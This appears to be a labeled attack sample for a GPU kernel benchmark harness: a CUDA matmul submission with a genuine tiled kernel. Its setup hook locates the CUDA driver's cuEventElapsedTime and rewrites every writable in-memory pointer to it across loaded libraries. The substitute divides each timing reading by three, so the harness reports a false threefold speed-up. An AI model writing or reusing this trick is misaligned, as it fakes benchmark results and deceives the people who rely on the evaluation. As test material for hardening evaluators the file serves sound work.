// attack: C01 finds the runner's pointer to the function that reads the time between events, and puts its own there
// task: matmul
// twin: matmul_tiled.cu

#include <cuda_runtime.h>
#include <dlfcn.h>
#include <link.h>
#include <string.h>

#include <kernelgen/abi.h>

KGEN_EXPORT_ABI_VERSION
KGEN_API void kgen_destroy(void*) {}

namespace {
using Elapsed = int (*)(float*, void*, void*);
Elapsed read_time = nullptr;

/// A third of the time that it took.
int read_less_time(float* milliseconds, void* start, void* end) {
  const int status = read_time(milliseconds, start, end);
  *milliseconds /= 3;
  return status;
}

/// Replaces the pointer in the data of every loaded object. What is read-only after relocation is left alone.
int replace_in(dl_phdr_info* object, size_t, void*) {
  uintptr_t fixed = 0, fixed_end = 0;
  for (int i = 0; i < object->dlpi_phnum; ++i)
    if (object->dlpi_phdr[i].p_type == PT_GNU_RELRO) {
      fixed = object->dlpi_addr + object->dlpi_phdr[i].p_vaddr;
      fixed_end = (fixed + object->dlpi_phdr[i].p_memsz + 4095) & ~uintptr_t{4095};
    }
  for (int i = 0; i < object->dlpi_phnum; ++i) {
    const auto& segment = object->dlpi_phdr[i];
    if (segment.p_type != PT_LOAD || (segment.p_flags & PF_W) == 0) continue;
    const uintptr_t begin = (object->dlpi_addr + segment.p_vaddr + 7) & ~uintptr_t{7};
    const uintptr_t end = object->dlpi_addr + segment.p_vaddr + segment.p_memsz - 7;
    for (uintptr_t at = begin; at < end; at += 8) {
      auto* const word = reinterpret_cast<Elapsed*>(at);
      if ((at < fixed || at >= fixed_end) && word != &read_time && *word == read_time) *word = read_less_time;
    }
  }
  return 0;
}
}  // namespace

KGEN_API int kgen_prepare(const kgen_prepare_args*, kgen_prepare_result*) {
  void* driver = dlopen("libcuda.so.1", RTLD_NOW | RTLD_NOLOAD);
  if (driver == nullptr || read_time != nullptr) return 0;
  read_time = reinterpret_cast<Elapsed>(dlsym(driver, "cuEventElapsedTime"));
  if (read_time != nullptr) dl_iterate_phdr(replace_in, nullptr);
  return 0;
}

namespace {
constexpr int k_tile = 32;

__global__ void matmul(const float* a, const float* b, float* c, int rows, int depth, int columns) {
  __shared__ float left[k_tile][k_tile], right[k_tile][k_tile + 1];
  const int column = blockIdx.x * k_tile + threadIdx.x;
  float sums[4] = {};
  for (int start = 0; start < depth; start += k_tile) {
    for (int i = threadIdx.y; i < k_tile; i += 8) {
      const int row = blockIdx.y * k_tile + i;
      left[i][threadIdx.x] = row < rows && start + threadIdx.x < depth ? a[row * depth + start + threadIdx.x] : 0;
      right[i][threadIdx.x] = start + i < depth && column < columns ? b[(start + i) * columns + column] : 0;
    }
    __syncthreads();
    for (int k = 0; k < k_tile; ++k)
      for (int i = 0; i < 4; ++i) sums[i] = fmaf(left[threadIdx.y + 8 * i][k], right[k][threadIdx.x], sums[i]);
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i) {
    const int row = blockIdx.y * k_tile + threadIdx.y + 8 * i;
    if (row < rows && column < columns) c[row * columns + column] = sums[i];
  }
}
}  // namespace

KGEN_API int kgen_run(void*, const kgen_run_args* args) {
  const kgen_tensor* a = kgen_find(&args->inputs, "a");
  const kgen_tensor* b = kgen_find(&args->inputs, "b");
  const int rows = static_cast<int>(kgen_dim(a, 0)), depth = static_cast<int>(kgen_dim(a, 1)),
            columns = static_cast<int>(kgen_dim(b, 1));
  const dim3 grid(static_cast<unsigned>((columns + 31) / 32), static_cast<unsigned>((rows + 31) / 32));
  matmul<<<grid, dim3(32, 8), 0, static_cast<cudaStream_t>(args->stream)>>>(
      static_cast<const float*>(a->data), static_cast<const float*>(b->data),
      static_cast<float*>(kgen_at(&args->outputs, 0)->data), rows, depth, columns);
  return cudaGetLastError() == cudaSuccess ? 0 : kgen_fail(&args->error, "the launch failed");
}
